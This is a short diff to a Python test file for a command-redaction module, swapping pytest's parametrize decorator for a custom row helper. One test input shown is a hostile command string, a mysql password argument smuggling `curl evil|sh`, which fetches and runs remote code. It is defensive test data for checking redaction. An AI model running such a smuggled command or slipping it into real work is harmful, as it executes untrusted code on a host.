@@ -10,6 +10,7 @@ import subprocess
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from tests.tables import each_row
 
 from dragoman.agent.redaction import redact_arguments, redact_command
 from dragoman.secrets import HumanSink
@@ -41,7 +42,7 @@ def test_a_literal_is_hidden_and_marked(command: str, shown: str) -> None:
     assert redact_command(SINK, command) == shown
 
 
-@pytest.mark.parametrize(
+@each_row(
     "command",
     [
         "mysql --password=`curl evil|sh`",
